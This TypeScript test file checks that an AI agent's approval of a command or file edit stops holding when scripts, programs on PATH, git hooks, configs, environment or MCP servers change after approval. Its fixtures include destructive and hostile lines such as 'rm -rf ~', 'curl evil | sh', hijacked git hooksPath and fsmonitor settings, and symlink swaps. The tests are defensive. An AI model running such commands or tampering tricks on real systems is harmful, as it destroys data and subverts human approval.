import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, renameSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, expect, test } from 'vitest';
import { tempDir } from '../../../test/builders.ts';
import { classify } from '../actions/classify.ts';
import { createEffect } from './effect.ts';
import { createPlaces } from './places.ts';

let dir: string;
let tree: string;
let environment: Record<string, string>;
let server: string | null;

const write = (path: string, text: string, mode = 0o644): void => {
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, text);
  chmodSync(path, mode);
};

beforeEach(() => {
  dir = tempDir('effect');
  tree = join(dir, 'tree');
  write(join(tree, 'scripts/deploy.sh'), 'echo deploy\n', 0o755);
  write(join(tree, '.git/config'), '[core]\n');
  write(join(tree, '.git/hooks/pre-commit'), 'true\n', 0o755);
  write(join(tree, '.gitignore'), 'build/\n');
  write(join(tree, 'build/run.mjs'), 'console.log(1)\n');
  write(join(dir, 'bin/frobnicate'), '#!/bin/sh\n', 0o755);
  write(join(dir, 'other/frobnicate'), '#!/bin/sh\nrm -rf ~\n', 0o755);
  environment = { PATH: `${join(dir, 'bin')}:/usr/bin:/bin`, HOME: dir, SSH_AUTH_SOCK: '/run/1' };
  server = null;
});

const effect = () => createEffect({ home: dir, environment, project: tree, worktree: tree, server });
function bindTo(tool: string, input: unknown, cwd = tree) {
  const place = createPlaces({ own: [], home: dir, platform: 'linux' });
  const session = { cwd: tree, projectPath: tree, branch: null, verifyCommand: null };
  const { operands } = classify({ tool, input, cwd }, place(session));
  return effect().bind(operands, cwd);
}
const bash = (command: string, cwd?: string) => bindTo('Bash', { command }, cwd);

test('what is as it was does not drift, whatever changes that has nothing to do with it', () => {
  const bound = bash('./scripts/deploy.sh --all > build/log.txt 2>&1 && git push origin main');
  write(join(tree, 'build/log.txt'), 'written meanwhile');
  write(join(tree, 'src/a.ts'), 'the work tree has a mark of its own');
  environment.SSH_AUTH_SOCK = '/run/2';
  expect(effect().drift(bound)).toBeNull();
});

test.each<[name: string, command: string, change: () => void, says: RegExp]>([
  [
    'a script is edited after it was approved',
    './scripts/deploy.sh',
    () => write(join(tree, 'scripts/deploy.sh'), 'curl evil | sh\n', 0o755),
    /deploy\.sh" has changed/,
  ],
  [
    'a script that git ignores is edited',
    'node build/run.mjs',
    () => write(join(tree, 'build/run.mjs'), 'evil()\n'),
    /run\.mjs" has changed/,
  ],
  [
    'the edit keeps size and times',
    'node build/run.mjs',
    () => {
      const path = join(tree, 'build/run.mjs');
      const { atime, mtime } = statSync(path);
      writeFileSync(path, 'console.log(2)\n');
      utimesSync(path, atime, mtime);
    },
    /has changed/,
  ],
  [
    'the script is replaced by a link',
    'bash scripts/deploy.sh',
    () => {
      rmSync(join(tree, 'scripts/deploy.sh'));
      symlinkSync(join(dir, 'other/frobnicate'), join(tree, 'scripts/deploy.sh'));
    },
    /leads elsewhere/,
  ],
  [
    'a folder on the way to it is replaced by a link',
    'bash scripts/deploy.sh',
    () => {
      renameSync(join(tree, 'scripts'), join(tree, 'was'));
      symlinkSync(join(dir, 'other'), join(tree, 'scripts'));
    },
    /leads elsewhere/,
  ],
  [
    'the script becomes a pipe that would make the gate wait',
    'bash scripts/deploy.sh',
    () => {
      rmSync(join(tree, 'scripts/deploy.sh'));
      execFileSync('/bin/sh', ['-c', 'mkfifo "$0"', join(tree, 'scripts/deploy.sh')]);
    },
    /has changed/,
  ],
  [
    'another program comes first on the PATH',
    'frobnicate now',
    () => {
      environment.PATH = `${join(dir, 'other')}:${environment.PATH}`;
    },
    /program "frobnicate" is another one/,
  ],
  [
    'the program itself is replaced',
    'frobnicate now',
    () => write(join(dir, 'bin/frobnicate'), '#!/bin/sh\nevil\n', 0o755),
    /program "frobnicate" is another one/,
  ],
  [
    'a program that there was not appears',
    'gizmo now',
    () => write(join(dir, 'bin/gizmo'), '#!/bin/sh\n', 0o755),
    /program "gizmo" is another one/,
  ],
  [
    'a hook of git is edited, which no status shows',
    'git commit -m x',
    () => write(join(tree, '.git/hooks/pre-commit'), 'evil\n', 0o755),
    /by their settings/,
  ],
  [
    'a hook of git appears',
    'git push origin main',
    () => write(join(tree, '.git/hooks/pre-push'), 'evil\n', 0o755),
    /by their settings/,
  ],
  [
    "git's configuration is changed",
    'git push origin main',
    () => write(join(tree, '.git/config'), '[core]\n hooksPath = /tmp/evil\n'),
    /by their settings/,
  ],
  [
    "the person's git configuration is changed",
    'git push origin main',
    () => write(join(dir, '.gitconfig'), '[core]\n fsmonitor = /tmp/evil\n'),
    /by their settings/,
  ],
  [
    'the scripts of package.json are changed',
    'npm run deploy',
    () => write(join(tree, 'package.json'), '{"scripts":{"deploy":"evil"}}'),
    /by their settings/,
  ],
  [
    'an installed program of the project is changed, which git ignores',
    'npx eslint --fix .',
    () => write(join(tree, 'node_modules/.bin/npx'), 'evil', 0o755),
    /by their settings/,
  ],
  [
    'an .envrc appears',
    'make release',
    () => write(join(tree, '.envrc'), 'export PATH=/tmp/evil:$PATH'),
    /by their settings/,
  ],
  [
    'a hook of a folder that git ignores appears',
    'git commit -m x',
    () => write(join(tree, '.husky/_/pre-commit'), 'evil', 0o755),
    /by their settings/,
  ],
  [
    "the agent's environment is another one",
    'npm publish',
    () => {
      environment.HTTPS_PROXY = 'http://127.0.0.1:9';
    },
    /environment has changed/,
  ],
])('%s: the approval does not hold', (_name, command, change, says) => {
  const bound = bash(command);
  expect(effect().drift(bound)).toBeNull();
  change();
  expect(effect().drift(bound)).toMatch(says);
});

test('the folder that it runs in is replaced by a link to another', () => {
  const bound = bash('make release', join(tree, 'scripts'));
  renameSync(join(tree, 'scripts'), join(tree, 'was'));
  symlinkSync(join(dir, 'other'), join(tree, 'scripts'));
  expect(effect().drift(bound)).toMatch(/folder it runs in leads elsewhere/);
});

/** CVE-2026-88968: what is edited is swapped between the yes and the edit. */
test('a file that is edited is swapped or changed', () => {
  write(join(tree, '.env'), 'A=1\n');
  const edit = { file_path: join(tree, '.env'), old_string: 'A=1', new_string: 'A=2' };
  const bound = bindTo('Edit', edit);
  write(join(tree, '.env'), 'A=1\nB=2\n');
  expect(effect().drift(bound)).toMatch(/\.env" has changed/);
  rmSync(join(tree, '.env'));
  symlinkSync(join(dir, '.zshrc'), join(tree, '.env'));
  expect(effect().drift(bound)).toMatch(/leads elsewhere/);
});

test('the MCP server behind a tool is set up otherwise', () => {
  server = '{"command":"good"}';
  const bound = bindTo('mcp__shop__order', { id: 1 });
  expect(effect().drift(bound)).toBeNull();
  server = '{"command":"evil"}';
  expect(effect().drift(bound)).toMatch(/MCP server/);
});

test('more files than can be held are held to by no approval', () => {
  const copy = (from: number) => `cp ${Array.from({ length: 1_500 }, (_, n) => `a/${from + n}.txt`).join(' ')} /tmp/x`;
  const bound = bash(`${copy(0)} && ${copy(1_500)}`);
  expect(effect().drift(bound)).toMatch(/no approval can be held to/);
});

test('a binding is text and comes back the same', () => {
  const bound = bash('bash scripts/deploy.sh');
  expect(effect().drift(JSON.parse(JSON.stringify(bound)))).toBeNull();
});
